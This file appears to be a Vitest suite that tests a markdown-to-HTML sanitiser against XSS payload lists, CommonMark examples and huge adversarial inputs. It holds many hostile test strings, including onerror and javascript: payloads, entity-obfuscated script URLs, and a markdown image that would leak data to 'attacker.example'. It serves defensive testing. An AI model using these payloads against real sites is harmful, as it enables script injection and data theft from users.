import { existsSync, readFileSync, readdirSync } from "node:fs";
import path from "node:path";
import { fileURLToPath } from "node:url";
import DOMPurify from "isomorphic-dompurify";
import { describe, expect, it } from "vitest";
import { renderMarkdown } from "@/lib/markdown/render";
// The contract check and the payload readers are shared with `npm run eval:guards`.
import { contractViolations, parse, REQUIRED_REL, visibleText, yieldToEventLoop } from "@/scripts/lib/eval-html-contract";
import { CONTEXTS, payloadsOf, readLines, specExamples, type SpecExample } from "@/scripts/lib/eval-xss-data";

// The shared payload lists are read where they lie, never copied into the repository.
const REPO_ROOT = fileURLToPath(new URL("../../", import.meta.url));
const DATA_DIR = process.env.BULWARK_DATA_DIR ?? path.resolve(REPO_ROOT, "../shared/data");
const XSS_DIR = path.join(DATA_DIR, "xss");
const FALLBACK_FILE = fileURLToPath(new URL("./fixtures/xss-fallback.txt", import.meta.url));
const COMMONMARK_FILE = path.join(XSS_DIR, "xss_benign_commonmark_spec.txt");
const HAVE_XSS_DIR = existsSync(XSS_DIR);

if (!HAVE_XSS_DIR) {
  console.warn(
    `[markdown.test] No XSS payload lists at ${XSS_DIR} (set BULWARK_DATA_DIR to the shared data folder); ` +
      `checking only the committed fallback set ${FALLBACK_FILE}.`,
  );
}

// ---------------------------------------------------------------------------------------------
// Payload sources.
// ---------------------------------------------------------------------------------------------

function readFallback(): string[] {
  return readLines(FALLBACK_FILE)
    .filter((line) => !line.startsWith("#!"))
    .map((line) => line.replaceAll("\\n", "\n"));
}

const PAYLOAD_FILES = HAVE_XSS_DIR
  ? readdirSync(XSS_DIR)
      .filter((name) => name.startsWith("xss_") && !name.includes("_benign_"))
      .filter((name) => name.endsWith(".txt") || name.endsWith(".mjs"))
      .sort()
  : [];

type Failure = { payload: string; context: string; html: string; problems: string[] };

async function checkPayloads(payloads: string[]): Promise<{ renders: number; failures: Failure[] }> {
  const failures: Failure[] = [];
  let renders = 0;
  for (const payload of payloads) {
    for (const { name, wrap } of CONTEXTS) {
      const html = renderMarkdown(wrap(payload));
      const problems = contractViolations(html);
      if (problems.length > 0) failures.push({ payload, context: name, html, problems });
      if (++renders % 200 === 0) await yieldToEventLoop();
    }
  }
  return { renders, failures };
}

function describeFailures({ source, failures, renders }: { source: string; failures: Failure[]; renders: number }): string {
  const shown = failures
    .slice(0, 5)
    .map(
      (f) =>
        `\n  payload (${f.context}): ${JSON.stringify(f.payload).slice(0, 300)}` +
        `\n    output: ${JSON.stringify(f.html).slice(0, 300)}` +
        `\n    problems: ${f.problems.join("; ")}`,
    );
  return `${source}: ${failures.length} of ${renders} renders break the output contract; the first:${shown.join("")}`;
}

async function expectAllSafe({ source, payloads }: { source: string; payloads: string[] }): Promise<void> {
  expect(payloads.length, `${source} holds no payloads`).toBeGreaterThan(0);
  const { renders, failures } = await checkPayloads(payloads);
  console.log(`[markdown.test] ${source}: ${payloads.length} payloads x ${CONTEXTS.length} contexts = ${renders} renders checked`);
  expect(failures, describeFailures({ source, failures, renders })).toHaveLength(0);
}

// ---------------------------------------------------------------------------------------------
// Tests.
// ---------------------------------------------------------------------------------------------

describe("the output contract check", () => {
  // A check that passes everything would make every payload test below pass too.
  it("flags each kind of unsafe HTML", () => {
    for (const html of [
      '<img src="https://evil.example/x.png">',
      "<p onclick=alert(1)>x</p>",
      '<p style="color:red">x</p>',
      '<p id="location">x</p>',
      '<a href="javascript:alert(1)" target="_blank" rel="noopener noreferrer nofollow">x</a>',
      '<a href="/relative" target="_blank" rel="noopener noreferrer nofollow">x</a>',
      '<a href="https://example.com/">no target or rel</a>',
      '<a href="https://example.com/" target="_blank" rel="noopener">partial rel</a>',
      "<svg><a>x</a></svg>",
      '<span class="fixed inset-0">x</span>',
    ]) {
      expect(contractViolations(html), html).not.toEqual([]);
    }
    expect(contractViolations('<p><a href="https://example.com/" target="_blank" rel="noopener noreferrer nofollow">ok</a></p>')).toEqual([]);
  });
});

describe("renderMarkdown: behaviour", () => {
  it("replaces a raw <img> with a marker and drops its handler", () => {
    const html = renderMarkdown("<img src=x onerror=alert(1)>");
    const root = parse(html);
    expect(root.querySelector("img")).toBeNull();
    expect(html).not.toMatch(/onerror/i);
    expect(root.querySelector("span.blocked-image")?.textContent).toBe("[image]");
    expect(contractViolations(html)).toEqual([]);
  });

  it("turns a javascript: link into its text", () => {
    const root = parse(renderMarkdown("[click](javascript:alert(1))"));
    expect(root.querySelector("a")).toBeNull();
    expect(root.querySelector("[href]")).toBeNull();
    expect(root.textContent).toContain("click");
  });

  it("never loads a markdown image, and shows nothing of its URL", () => {
    const html = renderMarkdown("![exfil](https://attacker.example/x.png?d=secret)");
    const root = parse(html);
    expect(root.querySelector("[src], [srcset], img, picture, source")).toBeNull();
    for (const element of Array.from(root.getElementsByTagName("*"))) {
      for (const attribute of ["src", "href", "srcset"]) {
        expect(element.getAttribute(attribute) ?? "").not.toContain("attacker.example");
      }
    }
    expect(html).not.toContain("attacker.example");
    const marker = root.querySelector("span.blocked-image");
    expect(marker?.textContent).toBe("[image: exfil]");
    expect(marker?.getAttribute("title")).toBe("Image not loaded");
  });

  it("escapes markup in an image's alt text", () => {
    const root = parse(renderMarkdown('![<b>bold</b> "q" & <img src=x onerror=alert(1)>](https://example.com/a.png)'));
    expect(root.querySelector("b, img")).toBeNull();
    expect(root.querySelector("span.blocked-image")?.textContent).toContain("<b>bold</b>");
  });

  it("keeps an https link, opening in a new tab without opener or referrer", () => {
    const link = parse(renderMarkdown("[docs](https://example.com)")).querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://example.com/");
    expect(link?.getAttribute("target")).toBe("_blank");
    expect(link?.getAttribute("rel")?.split(" ")).toEqual(expect.arrayContaining(REQUIRED_REL));
    expect(link?.textContent).toBe("docs");
  });

  it("keeps mailto links and GFM autolinks", () => {
    const root = parse(renderMarkdown("<mailto:a@example.com> and https://example.org/x and www.example.net"));
    const hrefs = Array.from(root.querySelectorAll("a")).map((a) => a.getAttribute("href"));
    expect(hrefs).toEqual(["mailto:a@example.com", "https://example.org/x", "http://www.example.net/"]);
  });

  it("refuses obfuscated script URLs and relative links, keeping their text", () => {
    for (const markdown of [
      '<a href="&#106;avascript&#58;alert(1)">entities</a>',
      '<a href="java&#x09;script:alert(1)">tab</a>',
      '<a href=" &#14; JaVaScRiPt:alert(1)">control</a>',
      "[vb](vbscript:msgbox(1))",
      "[data](data:text/html,x)",
      "[rel](/api/logout)",
      "[ref][x]\n\n[x]: javascript:alert(1)",
    ]) {
      const root = parse(renderMarkdown(markdown));
      expect(root.querySelector("a"), markdown).toBeNull();
      expect(root.textContent?.trim().length, markdown).toBeGreaterThan(0);
    }
  });

  it("keeps the language class on code blocks, and no other class", () => {
    const root = parse(renderMarkdown("```ts\nconst a: number = 1;\n```"));
    expect(root.querySelector("pre > code")?.getAttribute("class")).toBe("language-ts");
    expect(root.textContent).toContain("const a: number = 1;");
    const raw = parse(renderMarkdown('<code class="fixed inset-0">x</code> <span class="overlay">y</span>'));
    expect(raw.querySelector("[class]")).toBeNull();
  });

  it("renders tables with column alignment", () => {
    const root = parse(renderMarkdown("| a | b |\n|:--|--:|\n| 1 | 2 |"));
    expect(root.querySelectorAll("table thead th")).toHaveLength(2);
    expect(root.querySelectorAll("table tbody td")).toHaveLength(2);
    expect(root.querySelector("th")?.getAttribute("align")).toBe("left");
    expect(root.querySelector("td:last-child")?.getAttribute("align")).toBe("right");
  });

  it("renders headings, lists, emphasis, strikethrough, blockquotes and line breaks", () => {
    const root = parse(renderMarkdown("# Title\n\n## Sub\n\n- one\n- two\n\n3. three\n4. four\n\n*em* **strong** ~~gone~~\n\n> quoted\n\nline one\nline two"));
    expect(root.querySelector("h1")?.textContent).toBe("Title");
    expect(root.querySelector("h2")?.textContent).toBe("Sub");
    expect(root.querySelectorAll("ul > li")).toHaveLength(2);
    expect(root.querySelector("ol")?.getAttribute("start")).toBe("3");
    expect(root.querySelector("em")?.textContent).toBe("em");
    expect(root.querySelector("strong")?.textContent).toBe("strong");
    expect(root.querySelector("del")?.textContent).toBe("gone");
    expect(root.querySelector("blockquote")?.textContent?.trim()).toBe("quoted");
    expect(root.querySelector("br")).not.toBeNull();
  });

  it("shows task list boxes as text, since <input> is refused", () => {
    const root = parse(renderMarkdown("- [ ] todo\n- [x] done"));
    expect(root.querySelector("input")).toBeNull();
    expect(Array.from(root.querySelectorAll("li")).map((li) => li.textContent?.trim())).toEqual(["[ ] todo", "[x] done"]);
  });

  it("removes script, style and frames with their content, and keeps harmless formatting", () => {
    const html = renderMarkdown(
      "<script>alert('s')</script><style>p{color:red}</style><iframe>framed</iframe>" +
        "<kbd>Ctrl</kbd>+<kbd>C</kbd> H<sub>2</sub>O x<sup>2</sup> <div>div text</div>",
    );
    const root = parse(html);
    expect(root.textContent).not.toMatch(/alert|color:red|framed/);
    expect(root.querySelectorAll("kbd")).toHaveLength(2);
    expect(root.querySelector("sub")?.textContent).toBe("2");
    expect(root.querySelector("div")).toBeNull();
    expect(root.textContent).toContain("div text");
    expect(contractViolations(html)).toEqual([]);
  });

  it("leaves other users of the shared DOMPurify instance alone", () => {
    renderMarkdown("![a](https://example.com/a.png) [b](https://example.com)");
    const other = DOMPurify.sanitize('<img src="https://example.com/a.png" alt="a"><a href="/x">x</a>');
    expect(other).toContain("<img");
    expect(other).not.toContain("blocked-image");
    expect(other).not.toContain("_blank");
  });

  it("returns an empty string for empty input", () => {
    expect(renderMarkdown("")).toBe("");
  });
});

describe("renderMarkdown against XSS payloads", () => {
  it("keeps the output contract for the committed fallback set", async () => {
    await expectAllSafe({ source: "fixtures/xss-fallback.txt", payloads: readFallback() });
  }, 60_000);

  for (const name of PAYLOAD_FILES) {
    it(`keeps the output contract for ${name}`, async () => {
      await expectAllSafe({ source: name, payloads: await payloadsOf(path.join(XSS_DIR, name)) });
    }, 300_000);
  }
});

// ---------------------------------------------------------------------------------------------
// Over-sanitising: ordinary markdown keeps its text.
// ---------------------------------------------------------------------------------------------

const RAW_HTML_SECTIONS = new Set(["HTML blocks", "Raw HTML", "Images"]);

/** Measured at 100% (562 of 562 examples, marked 18.2.1), then set a little lower. */
const RATE_THRESHOLD = 0.97;
const BENIGN_FALLBACK_FILE = path.join(__dirname, "fixtures/markdown-benign.txt");

describe("renderMarkdown on the CommonMark spec examples", () => {
  it("keeps the text of ordinary markdown", async () => {
    const haveSpec = existsSync(COMMONMARK_FILE);
    if (!haveSpec) {
      console.warn(`[markdown.test] No CommonMark spec at ${COMMONMARK_FILE}; using the committed ${BENIGN_FALLBACK_FILE} instead.`);
    }
    const examples = specExamples(readFileSync(haveSpec ? COMMONMARK_FILE : BENIGN_FALLBACK_FILE, "utf8")).filter(
      (e) => !RAW_HTML_SECTIONS.has(e.section) && !e.html.includes("<img"),
    );
    const mismatches: Array<{ example: SpecExample; ours: string; spec: string }> = [];
    for (const [index, example] of examples.entries()) {
      const html = renderMarkdown(example.markdown);
      expect(contractViolations(html), `example ${example.number}`).toEqual([]);
      const ours = visibleText(html);
      const spec = visibleText(example.html);
      if (ours !== spec) mismatches.push({ example, ours, spec });
      if (index % 200 === 0) await yieldToEventLoop();
    }
    const rate = (examples.length - mismatches.length) / examples.length;
    console.log(
      `[markdown.test] CommonMark: text preserved in ${examples.length - mismatches.length} of ${examples.length} ` +
        `examples without raw HTML or images (${(rate * 100).toFixed(1)}%)`,
    );
    const sample = mismatches
      .slice(0, 5)
      .map(
        (m) => `\n  #${m.example.number} (${m.example.section}) ${JSON.stringify(m.example.markdown)}: ${JSON.stringify(m.ours)} vs ${JSON.stringify(m.spec)}`,
      )
      .join("");
    expect(examples.length).toBeGreaterThan(haveSpec ? 400 : 20);
    expect(rate, `text preservation fell to ${(rate * 100).toFixed(1)}%; for example:${sample}`).toBeGreaterThanOrEqual(RATE_THRESHOLD);
  }, 120_000);
});

// ---------------------------------------------------------------------------------------------
// Hostile input size and shape.
// ---------------------------------------------------------------------------------------------

/** `unit` repeated to exactly `length` characters. */
const repeatTo = ({ unit, length }: { unit: string; length: number }) => unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
const ADVERSARIAL_LENGTH = 200_000;

/** "`a``a```a…": every run has a different length, so no code span ever closes. */
function backtickRuns(length: number): string {
  let text = "";
  for (let run = 1; text.length < length; run++) text += `${"`".repeat(run)}a`;
  return text.slice(0, length);
}

const ADVERSARIAL: ReadonlyArray<{ name: string; markdown: string }> = [
  { name: "nested brackets", markdown: "[".repeat(ADVERSARIAL_LENGTH / 2) + "]".repeat(ADVERSARIAL_LENGTH / 2) },
  { name: "unclosed link openers", markdown: repeatTo({ unit: "[a](", length: ADVERSARIAL_LENGTH }) },
  { name: "unmatched emphasis", markdown: repeatTo({ unit: "*a_", length: ADVERSARIAL_LENGTH }) },
  { name: "unmatched underscores", markdown: repeatTo({ unit: "_a", length: ADVERSARIAL_LENGTH }) },
  { name: "nested emphasis", markdown: `${"*".repeat(ADVERSARIAL_LENGTH / 2)}a${"*".repeat(ADVERSARIAL_LENGTH / 2)}` },
  { name: "nested block quotes", markdown: `${repeatTo({ unit: "> ", length: ADVERSARIAL_LENGTH })}x` },
  { name: "nested lists", markdown: `${repeatTo({ unit: "- ", length: ADVERSARIAL_LENGTH })}x` },
  { name: "run of spaces", markdown: `a${" ".repeat(ADVERSARIAL_LENGTH)}b` },
  { name: "nested raw tags", markdown: repeatTo({ unit: "<span>", length: ADVERSARIAL_LENGTH }) },
  {
    name: "misnested formatting tags",
    markdown: `${repeatTo({ unit: "<b x>", length: ADVERSARIAL_LENGTH / 2 })}${repeatTo({ unit: "<p>x", length: ADVERSARIAL_LENGTH / 2 })}`,
  },
  { name: "backtick runs that never close", markdown: backtickRuns(ADVERSARIAL_LENGTH) },
];

describe("renderMarkdown on hostile input", () => {
  it(`finishes ${ADVERSARIAL_LENGTH / 1000} KB adversarial inputs, with safe output`, async () => {
    for (const { name, markdown } of ADVERSARIAL) {
      const started = performance.now();
      const html = renderMarkdown(markdown);
      const elapsed = performance.now() - started;
      console.log(`[markdown.test] ${name}: ${markdown.length} chars in ${elapsed.toFixed(0)} ms`);
      expect(elapsed, name).toBeLessThan(15_000);
      expect(contractViolations(html), name).toEqual([]);
      await yieldToEventLoop();
    }
  }, 240_000);

  it("shows a 1 MB input as plain text, quickly", () => {
    const markdown = repeatTo({ unit: "*a_[<b>", length: 1_000_000 });
    const started = performance.now();
    const html = renderMarkdown(markdown);
    expect(performance.now() - started).toBeLessThan(10_000);
    const root = parse(html);
    expect(root.children).toHaveLength(1);
    expect(root.textContent).toBe(markdown);
  }, 120_000);
});
